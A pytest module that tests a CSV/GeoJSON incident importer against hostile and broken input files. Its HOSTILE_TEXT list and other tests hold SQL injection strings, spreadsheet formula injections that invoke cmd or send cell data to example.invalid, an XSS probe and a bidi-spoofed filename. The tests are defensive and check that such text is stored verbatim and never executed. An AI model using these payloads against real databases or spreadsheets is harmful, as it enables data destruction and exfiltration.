"""Hostile and broken files for ``gridgov incidents import``.

The importer must refuse a file it cannot read with a one-line reason (exit 2), quarantine
rows it cannot use with their reason, store hostile text verbatim (it is data, never SQL or a
formula to us), and stay within bounded memory on a huge file. Encodings, formats, swapped
coordinates, rejects and atomicity on a failure or ``kill -9`` are covered by
``tests/etl/test_incidents_import.py``; this module adds what an attacker or a broken export
would send.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text

from etl.incidents import ImportFileError, ImportOptions, import_file
from gis.boundaries import activate, create_generation
from gis.catalogues import load_classes
from gis.config import PROJECT_ROOT
from tests.etl.test_incidents_import import counts, rejects, sample_rows, stored, write_csv
from tests.factories import small_hierarchy

#: Text an attacker would try in every free-text field: SQL, formulas, markup, control
#: characters, bidi overrides, very long words, quotes and the CSV delimiter itself.
HOSTILE_TEXT = (
    "'; DROP TABLE incident; --",
    "1' OR '1'='1",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "<script>alert(1)</script>",
    "{{7*7}} ${7*7} %s %n",
    "\u202egnp.exe",
    "第一行\n第二行, \"带引号\"",
    "\\x27 \\\\ \\N",
)
HUGE_BYTES = 200 * 1024 * 1024
#: Peak memory allowed for importing a 200 MB file (the importer streams in chunks).
HUGE_RSS_LIMIT_MB = 800


@pytest.fixture(autouse=True)
def _work_in_tmp(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def store(fresh_engine):
    load_classes(fresh_engine)
    activate(fresh_engine, create_generation(fresh_engine, small_hierarchy(), name="g1"))
    return fresh_engine


def run(engine, path: Path, **options):
    return import_file(engine, path, ImportOptions(**options))


def cli_import(path: Path, database_url: str, *extra: str) -> tuple[int, str, float, float]:
    """``gridgov incidents import`` in a child process: exit code, stderr, seconds and the
    child's own peak resident memory in MB.

    The peak is the kernel's high-water mark of the child's address space (``VmHWM``), polled
    while it runs: ``wait4``'s ``ru_maxrss`` would also count the pages of the (large) pytest
    process the child was forked from, before it exec'd.
    """
    env = {**os.environ, "DATABASE_URL": database_url}
    started = time.perf_counter()
    peak_kb = 0
    with tempfile.TemporaryFile() as errors:
        process = subprocess.Popen(
            [sys.executable, "-m", "etl.cli", "incidents", "import", str(path), "--quiet",
             *extra], cwd=PROJECT_ROOT, env=env, stdout=subprocess.DEVNULL, stderr=errors)
        try:
            while process.poll() is None:
                peak_kb = max(peak_kb, _high_water_kb(process.pid))
                time.sleep(0.02)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
        errors.seek(0)
        stderr = errors.read().decode(errors="replace")
    return process.returncode, stderr, time.perf_counter() - started, peak_kb / 1024


def _high_water_kb(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except (FileNotFoundError, ProcessLookupError):
        pass
    return 0


# -- hostile text ---------------------------------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_hostile_text_is_stored_verbatim(store, tmp_path, encoding):
    texts = [t for t in HOSTILE_TEXT if _encodable(t, encoding)]
    rows = sample_rows(len(texts))
    for row, hostile in zip(rows, texts, strict=True):
        row["description"] = hostile
    rows.append(sample_rows(1, source_key="'; DELETE FROM incident_key; --",
                            description="key with SQL")[0])
    path = write_csv(tmp_path / f"hostile-{encoding}.csv", rows, encoding=encoding)
    summary = run(store, path)
    assert (summary.loaded, summary.rejected) == (len(rows), 0)
    descriptions = {row.source_key: row.description for row in stored(store)}
    for row in rows:
        assert descriptions[row["source_key"]] == row["description"]
    with store.connect() as conn:  # the tables are all still there
        assert conn.execute(text("SELECT count(*) FROM incident_key")).scalar_one() == len(rows)


def _encodable(value: str, encoding: str) -> bool:
    try:
        value.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


def test_hostile_values_in_every_column_are_quarantined_not_executed(store, tmp_path):
    row = sample_rows(1)[0]
    hostile = {column: "1; DROP TABLE incident; --" for column in
               ("class_code", "reported_at", "lon", "lat", "source")}
    rows = [dict(row, source_key=f"H{k}", **{column: value})
            for k, (column, value) in enumerate(hostile.items())]
    path = write_csv(tmp_path / "columns.csv", rows)
    summary = run(store, path)
    assert (summary.loaded, summary.rejected) == (0, len(rows))
    assert {r.raw[column] for r, column in zip(rejects(store), hostile, strict=True)} == {
        "1; DROP TABLE incident; --"}
    assert counts(store)["incident"] == 0


def test_a_nul_byte_is_a_rejected_row_not_a_failed_import(store, tmp_path):
    path = tmp_path / "nul.csv"
    rows = sample_rows(3)
    rows[1]["description"] = "before\x00after"
    write_csv(path, rows)
    summary = run(store, path)
    assert (summary.loaded, summary.rejected) == (2, 1)
    assert [(r.row_number, r.field) for r in rejects(store)] == [(2, "description")]


# -- broken files ---------------------------------------------------------------------------------
def _feature(geometry, key: str) -> dict:
    return {"type": "Feature", "geometry": geometry,
            "properties": {"source_key": key, "class_code": "E0102",
                           "reported_at": "2019-05-01T09:30:00+08:00"}}


@pytest.mark.filterwarnings("ignore:OGRGeoJSONReadRawPoint")
def test_broken_geometries_are_quarantined_row_by_row(store, tmp_path):
    good = {"type": "Point", "coordinates": [120.3025, 31.5775]}
    features = [
        _feature(good, "G1"),
        _feature(None, "B-null"),
        _feature({"type": "Point", "coordinates": []}, "B-empty"),
        _feature({"type": "Polygon", "coordinates": [[[120.30, 31.56], [120.31, 31.57],
                                                      [120.30, 31.57], [120.31, 31.56],
                                                      [120.30, 31.56]]]}, "B-bowtie"),
        _feature({"type": "LineString", "coordinates": [[120.30, 31.56]]}, "B-line"),
        _feature({"type": "Point", "coordinates": [1e308, -1e308]}, "B-huge"),
        _feature(good, "G2"),
    ]
    path = tmp_path / "broken.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    summary = run(store, path)
    assert summary.rows_read == len(features)
    assert summary.loaded == 2
    assert summary.rejected == len(features) - 2
    assert {r.source_key for r in stored(store)} == {"G1", "G2"}


@pytest.mark.parametrize(("name", "content"), [
    ("truncated.geojson", b'{"type": "FeatureCollection", "features": [{"type": "Feat'),
    ("garbage.gpkg", os.urandom(4096)),
    ("empty.gpkg", b""),
    ("text.parquet", b"source_key,class_code\nK1,E0102\n"),
    ("zip-bomb-named.geojson", b"PK\x03\x04" + b"\x00" * 1024),
    ("utf16.csv", "source_key,class_code,reported_at,lon,lat\n".encode("utf-16")),
    ("binary.csv", bytes(range(256)) * 64),
    ("header-only-nul.csv", b"\x00" * 1024),
])
def test_unreadable_files_are_refused_with_a_reason(store, tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ImportFileError, match=name.replace(".", r"\.")):
        run(store, path)
    assert counts(store) == {"incident": 0, "incident_key": 0, "import_batch": 0,
                             "incident_reject": 0}


def test_a_declared_encoding_that_does_not_fit_is_refused(store, tmp_path):
    path = write_csv(tmp_path / "gbk.csv", sample_rows(3, description="暴露垃圾"),
                     encoding="gbk")
    with pytest.raises(ImportFileError, match="utf-8"):
        run(store, path, encoding="utf-8")
    with pytest.raises(ImportFileError, match="no-such-codec"):
        run(store, path, encoding="no-such-codec")
    assert run(store, path).loaded == 3  # detected as GB18030 without the option


def test_a_malformed_line_in_a_gbk_file_is_quarantined(store, tmp_path):
    path = tmp_path / "gbk-broken.csv"
    frame = pd.DataFrame(sample_rows(3, description="占道经营"))
    body = frame.to_csv(index=False).splitlines()
    body.insert(2, "K-bad,E0102,多余,字段,在,这里,还有,更多")
    path.write_bytes(("\n".join(body) + "\n").encode("gbk"))
    summary = run(store, path)
    assert (summary.loaded, summary.rejected) == (3, 1)
    assert rejects(store)[0].reason.startswith("malformed line")


# -- huge files -----------------------------------------------------------------------------------
@pytest.mark.slow
def test_a_200_mb_file_with_one_endless_line_is_refused_in_bounded_memory(
        store, fresh_url, tmp_path):
    """A header and then 200 MB without a line break (a sparse file: no disk used)."""
    path = tmp_path / "endless.csv"
    with open(path, "wb") as handle:
        handle.write(b"source_key,class_code,reported_at,lon,lat,description\nK1,E0102,")
        handle.truncate(HUGE_BYTES)
    code, stderr, seconds, peak_mb = cli_import(path, fresh_url)
    print(f"endless line: exit {code} in {seconds:.1f} s, peak {peak_mb:.0f} MB")
    assert code == 2, stderr
    assert "cannot import" in stderr and "Traceback" not in stderr
    assert peak_mb < HUGE_RSS_LIMIT_MB
    assert counts(store)["import_batch"] == 0


@pytest.mark.slow
def test_a_200_mb_header_line_is_refused_in_bounded_memory(store, fresh_url, tmp_path):
    """No line break at all: the header itself would be 200 MB."""
    path = tmp_path / "no-newline.csv"
    with open(path, "wb") as handle:
        handle.write(b"source_key")
        handle.truncate(HUGE_BYTES)
    code, stderr, seconds, peak_mb = cli_import(path, fresh_url)
    print(f"endless header: exit {code} in {seconds:.1f} s, peak {peak_mb:.0f} MB")
    assert code == 2, stderr
    assert "Traceback" not in stderr
    assert peak_mb < HUGE_RSS_LIMIT_MB
